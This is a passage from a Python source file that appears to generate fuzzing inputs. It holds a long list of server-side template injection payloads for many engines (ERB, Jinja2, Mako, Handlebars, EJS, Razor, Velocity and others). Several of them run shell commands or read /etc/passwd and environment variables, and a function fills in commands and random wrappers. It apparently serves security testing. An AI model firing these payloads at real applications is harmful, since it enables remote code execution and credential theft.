    "<%= IO.popen('CC').readlines() %>", "<%= Dir.entries('/') %>", "<%= `CC` %>", "#{`CC`}", "#{%x|CC|}", "<%= Kernel.exec('CC') %>", "= system('CC')", "<%= self.instance_variables %>", "${x=__import__('os').popen('CC').read()}", "<%import os%>${os.popen('CC').read()}", "${self.template.module.runtime.util.os.popen('CC').read()}", "{% import os %}{{os.popen('CC').read()}}", "{% raw __import__('os').system('CC') %}", "{{__import__('os').system('CC')}}", "<%\nimport subprocess\n%>${subprocess.check_output('CC')}", "$!{WW.__class__}", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('CC')\")()}}", "{{#with 'WW' as |string|}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/with}}", "{{#each this.constructor.constructor}}{{this}}{{/each}}", "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec('CC')}()}", "- var x = root.process\n- x = x.mainModule.require\n= x('child_process').exec('CC')", "<%= global.process.mainModule.require('child_process').execSync('CC') %>", "<%- include('/etc/passwd') %>", "${require('child_process').execSync('CC')}", "{{= global.process.env }}", "{{this.constructor.constructor('return process')().env}}", "{{ WW.constructor('return process')() }}", "{% extends '/etc/passwd' %}", "{{.System \"CC\"}}", "{{.Env}}", "{{printf \"%s\" .WW.Exec}}", "@(1+2)", "@{var x = System.Diagnostics.Process.Start('CC');}", "@System.IO.File.ReadAllText('/etc/passwd')", "{{AA*AA}}[[BB*BB]]", "${AA*BB}<%=AA*BB%>{{AA*BB}}", "{{AA*'BB'}}", "{{'a'.toUpperCase()}}", "${{<%[%'\"}}%\\", "{{AA-BB}}", "#{AA*BB}", "a{{AA}}b", "{{(AA*BB)|string}}", "${{AA*BB}}", "@{AA*BB}", "~{AA*BB}", "{{:AA*BB}}", "{%=AA*BB%}", "$[AA*BB]", "{AA*BB}", "{{7*7}}{{WW}}", "${T(java.lang.Integer).valueOf(AA)*BB}", "<th:t=\"${AA*BB}\"", "{{WW|e('WW')}}{{AA*BB}}", "${AA/0}", "{{AA/0}}", "<%=AA/0%>", "#set($x=AA*BB)$x", "{#AA*BB#}{{BB}}",
)  # fmt: skip


_COUNT: Final = re.compile(r"(?<![A-Za-z])N(?![A-Za-z])")


def template(rng: Draw) -> str:
    a, b = (
        rng.choice((7, rng.randint(2, 99), rng.randint(2, 99999))),
        rng.choice((7, rng.randint(2, 99), rng.randint(2, 99999))),
    )
    text = rng.choice(_ENGINES).replace("AA", str(a)).replace("BB", str(b)).replace("WW", word(rng))
    text = _COUNT.sub(str(rng.randint(0, 400)), text).replace("CC", _plain(rng.choice(COMMANDS), rng))
    before = rng.choice(("", "", "", word(rng), word(rng) + " ", "'", '"', "}}", "${", word(rng) + "="))
    return before + text + rng.choice(("", "", "", word(rng), "'", '"', "{{", "//"))
